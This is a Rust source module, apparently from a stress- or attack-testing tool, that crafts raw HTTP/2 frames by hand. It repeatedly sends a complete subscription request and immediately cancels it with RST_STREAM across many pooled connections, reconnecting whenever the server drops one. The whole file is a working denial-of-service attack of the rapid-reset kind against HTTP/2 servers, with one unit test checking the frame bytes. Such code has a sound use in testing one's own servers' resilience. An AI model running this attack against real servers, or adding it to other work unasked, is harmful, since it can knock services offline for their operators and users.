//! Requests over HTTP/2 that are reset as soon as they are made, in frames written here (RFC 9113 §4): no library would send them.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use anyhow::{Context, ensure};
use rustls::ClientConnection;

use super::{AttackPlan, Pace, Shared, connect};
use crate::dialect::Dialect;

const ALPN: &[u8] = b"h2";
/// What a connection begins with: the preface, and SETTINGS without a setting (§3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
/// END_STREAM and END_HEADERS (§6.2).
const WHOLE_REQUEST: u8 = 0x5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams of clients have odd numbers up to this one (§5.1.1).
const STREAM_MAX: u32 = 0x7fff_ffff;
/// How long the server may take for a handshake, and for taking a request.
const PATIENCE: Duration = Duration::from_secs(30);

/// One connection.
struct Resetter {
    socket: TcpStream,
    session: Option<Box<ClientConnection>>,
    /// Of the next request.
    stream: u32,
    out: Vec<u8>,
}

impl Resetter {
    fn open(dialect: &Dialect, n: u64, shared: &Shared) -> anyhow::Result<Self> {
        let mut socket = connect(dialect, n, shared)?;
        socket.set_nonblocking(false)?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.set_write_timeout(Some(PATIENCE))?;
        let mut session = None;
        if let Some(trust) = &dialect.trust {
            let mut own = trust.session_for(ALPN)?;
            while own.is_handshaking() {
                own.complete_io(&mut socket)?;
            }
            ensure!(own.alpn_protocol() == Some(ALPN), "the server doesn't speak HTTP/2 over TLS");
            session = Some(Box::new(own));
        }
        socket.set_nodelay(true)?;
        let mut resetter = Self { socket, session, stream: 1, out: Vec::new() };
        resetter.say(PREFACE)?;
        Ok(resetter)
    }

    /// Makes a request and takes it back. False: the server has ended the connection, or it has had all its streams.
    fn make(&mut self, request: &[u8], shared: &Shared) -> bool {
        if self.stream > STREAM_MAX {
            return false;
        }
        let mut frames = Vec::new();
        frame(HEADERS, WHOLE_REQUEST, self.stream, request, &mut frames);
        frame(RST_STREAM, 0, self.stream, &CANCEL, &mut frames);
        self.stream += 2;
        let goes_on = self.say(&frames).is_ok() && self.is_open().unwrap_or(false);
        if !goes_on {
            Shared::add(&shared.ended);
        }
        goes_on
    }

    fn say(&mut self, bytes: &[u8]) -> io::Result<()> {
        let Some(session) = &mut self.session else {
            return self.socket.write_all(bytes);
        };
        session.writer().write_all(bytes)?;
        self.out.clear();
        while session.wants_write() {
            session.write_tls(&mut self.out)?;
        }
        self.socket.write_all(&self.out)
    }

    /// Throws away what the server has said, unread.
    fn is_open(&mut self) -> io::Result<bool> {
        self.socket.set_nonblocking(true)?;
        let open = loop {
            match self.socket.read(&mut [0; 4096]) {
                Ok(0) => break false,
                Ok(_) => {}
                Err(error) => break error.kind() == io::ErrorKind::WouldBlock,
            }
        };
        self.socket.set_nonblocking(false)?;
        Ok(open)
    }
}

/// Appends a frame (§4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&length);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The header block of a subscription: indexed fields, and literals that aren't indexed (RFC 7541 §6).
fn subscription(dialect: &Dialect) -> anyhow::Result<Vec<u8>> {
    let target = &dialect.target;
    // `:method: GET`, and `:scheme` as it is.
    let mut block = vec![0x82, if target.secure { 0x87 } else { 0x86 }];
    let path = format!("{}?match=urn:reset", target.path);
    for (index, value) in [(4, path.as_str()), (1, target.authority.as_str())] {
        // Up to 126 a length is one byte.
        let length = u8::try_from(value.len()).ok().filter(|length| *length < 127);
        block.extend([index, length.context("the hub's path or authority is too long for this attack")?]);
        block.extend_from_slice(value.as_bytes());
    }
    Ok(block)
}

pub(super) fn run(plan: &AttackPlan, dialect: &Dialect, mut pace: Pace<'_>) -> anyhow::Result<()> {
    let request = subscription(dialect)?;
    let mut held: Vec<Resetter> = Vec::with_capacity(plan.connections);
    let mut n = 0;
    while pace.next() {
        let at = pace.units as usize % plan.connections;
        if at >= held.len() {
            held.push(Resetter::open(dialect, n, pace.shared)?);
            n += 1;
        }
        let at = at.min(held.len() - 1);
        if !held[at].make(&request, pace.shared) {
            held[at] = Resetter::open(dialect, n, pace.shared)?;
            n += 1;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_and_its_reset_are_frames_of_one_stream() {
        let mut frames = Vec::new();
        frame(HEADERS, WHOLE_REQUEST, 5, &[0x82], &mut frames);
        frame(RST_STREAM, 0, 5, &CANCEL, &mut frames);
        assert_eq!(frames, b"\0\0\x01\x01\x05\0\0\0\x05\x82\0\0\x04\x03\0\0\0\0\x05\0\0\0\x08");
    }
}
